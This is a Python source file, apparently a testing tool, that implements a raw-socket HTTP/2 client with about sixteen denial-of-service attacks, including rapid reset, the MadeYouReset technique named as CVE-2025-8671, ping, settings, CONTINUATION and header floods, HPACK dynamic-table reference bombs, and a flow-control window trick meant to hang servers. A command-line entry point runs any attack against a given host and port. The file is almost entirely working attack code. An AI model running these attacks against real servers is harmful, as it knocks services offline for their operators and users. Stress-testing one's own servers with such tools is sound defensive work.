"""A hostile HTTP/2 client on raw sockets: attacks that crashed, hung or bloated servers.

As a program: `h2_abuse.py HOST:PORT ATTACK TARGET` runs one attack and says how it ended.
Frames are RFC 9113 section 6, header fields RFC 7541 without Huffman coding.
"""

import select
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS, WITH_PRIORITY = 1, 4, 0x20
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WINDOW_MAX = 0x7fffffff


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, bits, first=0):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def string(text):
    text = text if isinstance(text, bytes) else text.encode()
    return integer(len(text), 7) + text


def field(name, value, indexed=False):
    return bytes([0x40 if indexed else 0]) + string(name) + string(value)


def reference(index):
    return integer(index, 7, 0x80)


def request_block(target, method="GET", authority="api.example", extra=b""):
    return (field(":method", method) + field(":scheme", "http") + field(":path", target)
            + field(":authority", authority) + extra)


class Attacker:
    """One connection. `small` leaves the kernel little room for what the server sends."""

    def __init__(self, address, settings=(), small=False, timeout_s=20):
        host, _, port = address.rpartition(":")
        self.socket = socket.socket()
        if small:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            # Small segments, as on a network: loopback's make the server's buffer megabytes.
            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 1000)
        self.socket.settimeout(timeout_s)
        self.socket.connect((host.strip("[]"), int(port)))
        self.received = b""
        self.dropped = False
        self.next_stream = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *one)
                                                           for one in settings)))

    def close(self):
        self.socket.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def send(self, bytes_):
        """True when the peer still takes bytes."""
        try:
            self.socket.sendall(bytes_)
        except socket.timeout:
            return False
        except OSError:
            self.dropped = True
        return not self.dropped

    def open(self, target, end=True, block=None, **arguments):
        """Sends a request, returns its stream."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        block = request_block(target, **arguments) if block is None else block
        self.send(frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block))
        return stream

    def read(self, quiet_s=0.5):
        """Reads until nothing comes any more; notes whether the connection was dropped."""
        while not self.dropped and select.select([self.socket], [], [], quiet_s)[0]:
            try:
                bytes_ = self.socket.recv(1 << 16)
            except OSError:
                bytes_ = b""
            self.received += bytes_
            self.dropped = not bytes_
        return self.received

    def read_at_most(self, count):
        while count > 0 and not self.dropped and select.select([self.socket], [], [], 0.2)[0]:
            try:
                bytes_ = self.socket.recv(min(count, 4096))
            except OSError:
                bytes_ = b""
            self.received += bytes_
            self.dropped = not bytes_
            count -= len(bytes_)

    def wait_dropped(self, timeout_s=20):
        """Reads until the server ends the connection. False when it does not."""
        until = time.monotonic() + timeout_s
        while not self.dropped and time.monotonic() < until:
            self.read(0.2)
        return self.dropped

    def frames(self):
        at, found = 0, []
        while at + 9 <= len(self.received):
            length = int.from_bytes(self.received[at:at + 3], "big")
            kind, flags, stream = struct.unpack(">BBI", self.received[at + 3:at + 9])
            if at + 9 + length > len(self.received):
                break
            found.append((kind, flags, stream, self.received[at + 9:at + 9 + length]))
            at += 9 + length
        return found


def window_abort(address, target, size, streams=100, rounds=20):
    """A window that opens for streams that are finished but stuck in an unfinished write.

    `target` answers with `size` bytes, which is exactly the window of every stream and less than
    one write of the server. Each stream depends on the one before it, so they are answered one
    after another, and in each write some stream ends. In every round some bytes are read, which
    leaves the server in another write, and the windows are opened by one byte and closed again.
    """
    attacker = Attacker(address, [(INITIAL_WINDOW_SIZE, size)], small=True)
    bytes_ = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW_MAX - 65535))
    for stream in range(1, 2 * streams, 2):
        priority = struct.pack(">IB", 0x80000000 | max(stream - 2, 0), 15)
        bytes_ += frame(HEADERS, END_HEADERS | END_STREAM | WITH_PRIORITY, stream,
                        priority + request_block(target))
    attacker.send(bytes_)
    select.select([attacker.socket], [], [], 10)
    for number in range(rounds):
        time.sleep(0.05)  # until the server has written all that the kernel takes
        attacker.send(b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window))
                               for window in (size + 1, size)))
        time.sleep(0.05)
        attacker.read_at_most(17000 + 5000 * number)
    attacker.read()
    return attacker


def reset_in_one_write(address, target):
    """HEADERS, RST_STREAM and WINDOW_UPDATE of a stream without a window, many in one segment."""
    attacker = Attacker(address, [(INITIAL_WINDOW_SIZE, 0)])
    bytes_ = b""
    for stream in range(1, 100, 2):
        bytes_ += (frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(target))
                   + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                   + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)))
    attacker.send(bytes_)
    attacker.read()
    return attacker


def open_header_block(address, target, slow_target):
    """An open request, and a header block that does not end."""
    attacker = Attacker(address)
    attacker.open(slow_target)
    block = request_block(target)
    attacker.send(frame(HEADERS, END_STREAM, attacker.next_stream, block[:20]))
    attacker.send(frame(CONTINUATION, 0, attacker.next_stream, block[20:30]))
    return attacker


def finish_header_block(attacker):
    """What makes a half-closed libh2o 2.2.5 loop: the block goes on."""
    attacker.send(frame(CONTINUATION, 0, attacker.next_stream, b"\x00" * 8))


def _flood(attacker, one, times, answers=False):
    for _ in range(times):
        if not attacker.send(one if isinstance(one, bytes) else one()):
            break
        if answers:
            attacker.read(0)
    attacker.read()
    return attacker


def rapid_reset(address, target, times=2000):
    attacker = Attacker(address)
    for _ in range(times):
        stream = attacker.open(target)
        if not attacker.send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
            break
    attacker.read()
    return attacker


def made_you_reset(address, target, times=2000, how="zero"):
    """Makes the server reset streams itself (CVE-2025-8671)."""
    attacker = Attacker(address)
    provoke = {
        "zero": lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)),
        "overflow": lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", WINDOW_MAX)),
        "data": lambda stream: frame(DATA, 0, stream, b"x"),
    }[how]
    for _ in range(times):
        stream = attacker.open(target)
        if not attacker.send(provoke(stream)):
            break
    attacker.read()
    return attacker


def ping_flood(address, times=5000):
    return _flood(Attacker(address), frame(PING, 0, 0, b"12345678"), times)


def settings_flood(address, times=5000):
    return _flood(Attacker(address), frame(SETTINGS, 0, 0), times)


def unknown_flood(address, times=5000):
    return _flood(Attacker(address), frame(0xbe, 0, 0, b"junk"), times)


def priority_flood(address, times=5000):
    return _flood(Attacker(address), frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 7)), times)


def empty_data_flood(address, target, times=5000):
    attacker = Attacker(address)
    stream = attacker.open(target, end=False, method="POST")
    return _flood(attacker, frame(DATA, 0, stream), times)


def continuation_flood(address, target, times=5000):
    attacker = Attacker(address)
    attacker.send(frame(HEADERS, END_STREAM, 1, request_block(target)))
    return _flood(attacker, frame(CONTINUATION, 0, 1), times)


def header_flood(address, target, fields=20000):
    """More fields than any request has, in full frames."""
    attacker = Attacker(address)
    block = request_block(target, extra=field("a", "b") * fields)
    attacker.send(frame(HEADERS, END_STREAM, 1, block[:16000]))
    for at in range(16000, len(block), 16000):
        last = at + 16000 >= len(block)
        if not attacker.send(frame(CONTINUATION, END_HEADERS if last else 0, 1,
                                   block[at:at + 16000])):
            break
    attacker.read()
    return attacker


def reference_bomb(address, target, name="x-large", size=3900, times=12000):
    """One large field in the dynamic table, referenced over and over."""
    attacker = Attacker(address)
    attacker.open(target, extra=field(name, "v" * size, indexed=True))
    attacker.read(0.2)
    attacker.open(target, extra=reference(62) * times)
    attacker.read()
    return attacker


def trailers(address, target):
    attacker = Attacker(address)
    stream = attacker.open(target, end=False, method="POST")
    attacker.send(frame(DATA, 0, stream, b"body"))
    attacker.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, field("authorization", "x")))
    attacker.read()
    return attacker


ATTACKS = {
    "window-abort": lambda address, target: window_abort(address, target, 60000),
    "reset-in-one-write": reset_in_one_write,
    "rapid-reset": rapid_reset,
    "made-you-reset-zero": lambda a, t: made_you_reset(a, t, how="zero"),
    "made-you-reset-overflow": lambda a, t: made_you_reset(a, t, how="overflow"),
    "made-you-reset-data": lambda a, t: made_you_reset(a, t, how="data"),
    "ping": lambda address, _: ping_flood(address),
    "settings": lambda address, _: settings_flood(address),
    "unknown": lambda address, _: unknown_flood(address),
    "priority": lambda address, _: priority_flood(address),
    "empty-data": empty_data_flood,
    "continuation": continuation_flood,
    "headers": header_flood,
    "reference": reference_bomb,
    "crumbs": lambda address, target: reference_bomb(address, target, name="cookie"),
    "trailers": trailers,
}


def main():
    address, name, target = sys.argv[1:4]
    with ATTACKS[name](address, target) as attacker:
        print("%s: %s, %d bytes received" % (
            name, "dropped" if attacker.dropped else "still connected", len(attacker.received)))


if __name__ == "__main__":
    main()
